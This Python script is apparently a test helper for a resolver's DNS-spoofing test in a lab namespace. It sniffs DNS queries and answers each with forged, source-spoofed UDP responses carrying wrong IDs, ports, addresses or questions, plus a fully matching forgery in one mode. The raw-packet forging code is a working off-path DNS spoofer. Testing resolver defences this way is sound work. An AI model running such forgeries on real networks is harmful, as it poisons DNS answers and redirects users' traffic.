#!/usr/bin/env python3
"""dns-spoofer.py — an off-path attacker for t-dns-spoof, run in the lab
internet's namespace: it watches (AF_PACKET) the queries that arrive on
DEVICE for TARGET (an address nothing answers for: the lab's 198.18.9.9) and
answers each one at once with forged responses (raw IPv4, source spoofed):

  wrong-id     from TARGET:53, the query's port, another ID
  wrong-port   from TARGET:5353, the right ID
  wrong-addr   from TARGET+1 (198.18.9.10):53, the right ID
  wrong-qname  from TARGET:53, the right ID and port, another question
  right        from TARGET:53, the right ID, port and question  (mode "all" only)

each carrying "QNAME A FORGED". The mode is read from MODEFILE at every query
("reject" or "all"); the count of queries seen goes to COUNTFILE.

  dns-spoofer.py DEVICE TARGET FORGED MODEFILE COUNTFILE
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_packet(src, sport, dst, dport, payload):
    ulen = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, ulen)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + udp


def question_end(msg):
    i = 12
    while msg[i]:
        i += 1 + msg[i]
    return i + 5


def answer(qid, question, forged):
    # header: QR AA RD RA, one question, one answer; the answer's name points at the question
    hdr = struct.pack("!HHHHHH", qid, 0x8580, 1, 1, 0, 0)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(forged)
    return hdr + question + rr


def main():
    dev, target, forged, modefile, countfile = sys.argv[1:6]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sniff.bind((dev, 0))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    other = socket.inet_ntoa(struct.pack("!I", struct.unpack("!I", socket.inet_aton(target))[0] + 1))
    seen = 0
    while True:
        pkt = sniff.recv(65535)
        ihl = (pkt[0] & 0xF) * 4
        if len(pkt) < ihl + 8 + 12 or pkt[9] != 17 or socket.inet_ntoa(pkt[16:20]) != target:
            continue
        src = socket.inet_ntoa(pkt[12:16])
        sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
        dns = pkt[ihl + 8:]
        if dport != 53 or dns[2] & 0x80:
            continue
        qid = struct.unpack("!H", dns[:2])[0]
        question = dns[12:question_end(dns)]
        seen += 1
        with open(countfile, "w") as f:
            f.write("%d\n" % seen)
        with open(modefile) as f:
            mode = f.read().strip()
        bad_q = b"\x05wrong" + question[question[0] + 1:]
        forgeries = [
            (target, 53, answer((qid + 1) & 0xFFFF, question, forged)),
            (target, 5353, answer(qid, question, forged)),
            (other, 53, answer(qid, question, forged)),
            (target, 53, answer(qid, bad_q, forged)),
        ]
        if mode == "all":
            forgeries.append((target, 53, answer(qid, question, forged)))
        for s, p, payload in forgeries:
            raw.sendto(udp_packet(s, p, src, sport, payload), (src, 0))


if __name__ == "__main__":
    main()
